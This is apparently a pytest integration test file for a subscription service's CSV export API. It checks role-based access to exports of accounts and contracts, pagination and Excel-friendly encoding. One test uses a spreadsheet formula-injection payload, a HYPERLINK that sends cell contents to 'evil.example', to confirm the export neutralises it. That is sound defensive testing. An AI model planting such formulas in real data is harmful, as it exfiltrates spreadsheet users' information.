"""Exports through the real API handler: the accounts and contracts a caller may see, as CSV
files a spreadsheet opens; each denial (a corporate manager never gets a residential row, an
agency only its own registrations), the partitions read, formulas kept out, files in parts."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from monosub import config
from monosub.formats import csv_export
from monosub.names import RECORDS
from monosub.services import exports
from monosub.store.dynamo import Table
from tests.conftest import set_clock
from tests.integration.test_access_api import FIRM, HOME, customer, partitions_read
from tests.integration.test_agency_api import (
    AGENCY_A,
    AGENCY_B,
    CORPORATE,
    OPS,
    REGIONAL,
    SALES,
    register,
    set_up_agency,
)
from tests.integration.test_contracts_api import (  # noqa: F401  (fixtures)
    call,
    rendered,
    started,
)

MIXED = {"groups": "regional-manager,agency", "user": "a-kita", "agency_id": "agency-a"}
BOM = "\ufeff"


def sheet(response: Any) -> list[dict[str, str]]:
    """The CSV's rows by column, after checking what makes it open in a spreadsheet."""
    assert response.status == 200, response
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="')
    assert response.text.startswith(BOM), "UTF-8 with BOM: Excel reads the Japanese right"
    assert "\r\n" in response.text and "\n" not in response.text.replace("\r\n", "")
    rows = list(csv.DictReader(io.StringIO(response.text.removeprefix(BOM), newline="")))
    assert response.headers["X-Row-Count"] == str(len(rows))
    return rows


def names(response: Any) -> list[str]:
    return [row["name"] for row in sheet(response)]


def export(api: Any, who: dict[str, str], **query: str) -> Any:
    return api("GET", "/accounts/export", query=query or None, **who)


@pytest.fixture
def book(api: Any, aws_storage: Any) -> dict[str, dict[str, Any]]:
    """Customers made a minute apart: a household and a company (direct), and one of each
    agency's (A's corporate and residential, B's corporate)."""
    minute = iter(range(10, 60))

    def tick() -> None:
        set_clock(aws_storage, f"2026-11-02T01:{next(minute):02d}:00Z")

    tick()
    set_up_agency(api, "agency-a")
    set_up_agency(api, "agency-b")
    made: dict[str, dict[str, Any]] = {}
    tick()
    made["home"] = customer(api, HOME, "residential")
    tick()
    made["firm"] = customer(api, FIRM, "corporate")
    tick()
    made["a-firm"] = register(api, AGENCY_A, name="株式会社エー顧客", email="a@example.jp")
    tick()
    made["a-home"] = register(
        api, AGENCY_A, name="江井 花子", segment="residential", email="h@example.jp"
    )
    tick()
    made["b-firm"] = register(api, AGENCY_B, name="株式会社ビー顧客", email="b@example.jp")
    return made


NEWEST_FIRST = ["株式会社ビー顧客", "江井 花子", "株式会社エー顧客", "株式会社北商事", "山田 花子"]


def test_staff_export_every_account_they_may_see_newest_first(api, book):
    for who in (OPS, SALES):
        response = export(api, who, format="csv")
        rows = sheet(response)
        assert [r["name"] for r in rows] == NEWEST_FIRST
        assert list(rows[0]) == ["account_id", "name", "segment", "agency_id", "created_at_tokyo"]
        assert rows[0] == {
            "account_id": book["b-firm"]["account_id"],
            "name": "株式会社ビー顧客",
            "segment": "corporate",
            "agency_id": "agency-b",
            "created_at_tokyo": "2026-11-02 10:15:00",
        }
        assert rows[-1]["agency_id"] == "" and rows[-1]["segment"] == "residential"
    filename = export(api, OPS).headers["Content-Disposition"]
    assert filename == 'attachment; filename="accounts-all-20261102-1015.csv"'
    assert export(api, OPS).headers.get("X-Next-Token") is None
    assert export(api, OPS).headers["Cache-Control"] == "no-store"
    assert names(export(api, OPS, segment="residential")) == ["江井 花子", "山田 花子"]


def test_a_corporate_manager_never_exports_a_residential_customer(api, book, monkeypatch):
    read = partitions_read(monkeypatch)
    corporate = ["株式会社ビー顧客", "株式会社エー顧客", "株式会社北商事"]
    assert names(export(api, CORPORATE)) == corporate
    assert names(export(api, CORPORATE, segment="corporate")) == corporate
    # asking for residential customers gives the header row only, as a list gives nothing
    asked = export(api, CORPORATE, segment="residential")
    assert sheet(asked) == []
    assert asked.text == BOM + "account_id,name,segment,agency_id,created_at_tokyo\r\n"
    assert "花子" not in asked.text
    assert set(read) == {"ACCOUNTS#corporate"}, "never a residential partition"
    monkeypatch.undo()
    # and the other way round
    assert names(export(api, REGIONAL)) == ["江井 花子", "山田 花子"]
    assert names(export(api, REGIONAL, segment="corporate")) == []


def test_an_agency_exports_only_its_own_registrations(api, book, monkeypatch):
    read = partitions_read(monkeypatch)
    rows = sheet(export(api, AGENCY_A))
    assert [r["name"] for r in rows] == ["江井 花子", "株式会社エー顧客"]
    assert {r["agency_id"] for r in rows} == {"agency-a"}
    assert names(export(api, AGENCY_A, segment="corporate")) == ["株式会社エー顧客"]
    assert set(read) == {"REGISTRATIONS#agency-a"}, "never another agency's partition"
    monkeypatch.undo()
    assert names(export(api, AGENCY_B)) == ["株式会社ビー顧客"]
    # a manager who is also agency A's user: the residential customers and A's, never B's
    assert names(export(api, MIXED)) == ["江井 花子", "株式会社エー顧客", "山田 花子"]
    assert names(export(api, MIXED, segment="corporate")) == ["株式会社エー顧客"]


def test_who_may_export_accounts(api, book):
    assert export(api, {"groups": "customer"}).status == 403
    assert export(api, {"groups": None}).status == 401
    assert export(api, {"groups": "agency", "user": "x"}).status == 403  # without its agency
    assert export(api, OPS, segment="government").status == 400
    assert export(api, OPS, format="xlsx").status == 400
    bad = export(api, OPS, next="not-a-token")
    assert (bad.status, bad.json()["details"][0]["field"]) == (400, "next")
    # the customer record is still there under its own route
    account = book["home"]["account_id"]
    assert api("GET", f"/accounts/{account}", **OPS).json()["account"]["name"] == "山田 花子"


def test_a_cell_that_looks_like_a_formula_stays_text(api, aws_storage):
    set_clock(aws_storage, "2026-11-02T01:00:00Z")
    set_up_agency(api, "agency-a")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"開く")'
    register(api, AGENCY_A, name=formula, email="f@example.jp")
    [row] = sheet(export(api, AGENCY_A))
    assert row["name"] == "'" + formula


def test_a_large_export_comes_in_files_that_go_on_where_the_last_stopped(api, book, monkeypatch):
    monkeypatch.setattr(exports, "ACCOUNT_PAGE", 1)
    monkeypatch.setattr(exports, "MAX_ROWS", 2)
    files, token = [], None
    while True:
        response = export(api, OPS, **({"next": token} if token else {}))
        files.append(names(response))
        token = response.headers.get("X-Next-Token")
        if token is None:
            break
    assert files == [NEWEST_FIRST[0:2], NEWEST_FIRST[2:4], NEWEST_FIRST[4:]]
    # bounded by size as well: whole pages only, the rest in the next file
    monkeypatch.setattr(exports, "MAX_ROWS", 50_000)
    monkeypatch.setattr(exports, "ACCOUNT_PAGE", 2)
    header, *lines = export(api, OPS).text.split("\r\n")[:5]
    size = [csv_export.wire_size(text + "\r\n") for text in lines]
    two_rows = max(size[0] + size[1], size[2] + size[3])  # a page; never two
    monkeypatch.setattr(exports, "MAX_WIRE_BYTES", csv_export.wire_size(header + "\r\n") + two_rows)
    first = export(api, OPS)
    assert names(first) == NEWEST_FIRST[:2]
    rest = export(api, OPS, next=first.headers["X-Next-Token"])
    assert names(rest) == NEWEST_FIRST[2:4]


def test_an_account_is_listed_in_its_segments_partition(api, book):
    with config.function_environment(api.environment):
        item = Table(RECORDS).get(f"ACCOUNT#{book['home']['account_id']}", "ACCOUNT")
    assert item is not None
    assert (item["gsi1pk"], item["gsi1sk"]) == (
        "ACCOUNTS#residential",
        f"{item['created_at']}#{book['home']['account_id']}",
    )


# ---- contracts -----------------------------------------------------------------------------


@pytest.fixture
def contracts(call) -> dict[str, Any]:  # noqa: F811  (the fixture imported above)
    """Active contracts of a household and a company (direct), and of agencies A and B;
    a company's contract still to start."""
    made = {
        "home": started(call, segment="residential", company="山田 花子"),
        "firm": started(call, segment="corporate", company="株式会社北商事"),
        "a-firm": started(call, segment="corporate", agency_id="agency-a", company="エー顧客"),
        "b-firm": started(call, segment="corporate", agency_id="agency-b", company="ビー顧客"),
    }
    from tests.integration.test_contracts_api import contract_for

    made["pending"] = contract_for(call, segment="corporate", company="=1+2")
    return made


def contract_export(api: Any, who: dict[str, str], **query: str) -> list[dict[str, str]]:
    return sheet(api("GET", "/contracts/export", query=query or None, **who))


def numbers(rows: list[dict[str, str]]) -> set[str]:
    return {row["number"] for row in rows}


def test_contracts_export_what_the_caller_may_see(api, contracts):
    every = {c.number for c in contracts.values()}
    assert numbers(contract_export(api, OPS)) == every
    assert numbers(contract_export(api, SALES)) == every
    rows = contract_export(api, OPS, status="active")
    assert numbers(rows) == every - {contracts["pending"].number}
    home = next(r for r in rows if r["number"] == contracts["home"].number)
    assert home == {
        "number": contracts["home"].number,
        "contract_id": contracts["home"].contract_id,
        "account_id": contracts["home"].account_id,
        "customer": "山田 花子",
        "segment": "residential",
        "agency_id": "",
        "owner": "suzuki",
        "status": "active",
        "contract_date": "2026-11-10",
        "start_date": "2026-11-20",
        "end_date": str(contracts["home"].end_date),
        "monthly_total_yen": str(contracts["home"].monthly_total),
    }
    [pending] = contract_export(api, OPS, status="pending_start")
    assert pending["customer"] == "'=1+2" and pending["start_date"] == ""


def test_a_corporate_manager_never_exports_a_residential_contract(api, contracts):
    residential = contracts["home"].number
    for status in (None, "active"):
        query = {"status": status} if status else {}
        seen = numbers(contract_export(api, CORPORATE, **query))
        assert residential not in seen and contracts["firm"].number in seen
        assert numbers(contract_export(api, REGIONAL, **query)) == {residential}
    # the lists and the lookup agree (the caller's limits: never "no limit" short of all)
    listed = api("GET", "/contracts", query={"status": "active"}, **CORPORATE).json()
    assert residential not in {c["number"] for c in listed["contracts"]}
    refused = api("GET", f"/contracts/{contracts['home'].contract_id}", **CORPORATE)
    assert refused.status == 404
    assert refused.json()["message"] == f"contract {contracts['home'].contract_id} does not exist"
    # a manager who is also agency A's user never gets agency B's or a direct company's
    mixed = numbers(contract_export(api, MIXED))
    assert residential in mixed
    assert not mixed & {contracts["b-firm"].number, contracts["firm"].number}


def test_contracts_are_for_monosub_staff_and_come_in_parts(api, contracts, monkeypatch):
    assert api("GET", "/contracts/export", **AGENCY_A).status == 403
    assert api("GET", "/contracts/export", groups="customer").status == 403
    bad = api("GET", "/contracts/export", query={"next": "ended.!"}, **OPS)
    assert (bad.status, bad.json()["details"][0]["field"]) == (400, "next")
    other = api("GET", "/contracts/export", query={"status": "active", "next": "ended."}, **OPS)
    assert other.status == 400
    monkeypatch.setattr(exports, "CONTRACT_PAGE", 1)
    monkeypatch.setattr(exports, "MAX_ROWS", 2)
    seen: list[str] = []
    token, files = None, 0
    while True:
        response = api("GET", "/contracts/export", query={"next": token} if token else None, **OPS)
        rows = sheet(response)
        assert len(rows) <= 2
        seen += [row["number"] for row in rows]
        files += 1
        token = response.headers.get("X-Next-Token")
        if token is None:
            break
    assert sorted(seen) == sorted(c.number for c in contracts.values()), "each once"
    assert seen[0] == contracts["pending"].number, "status by status: pending_start first"
    assert files >= 3
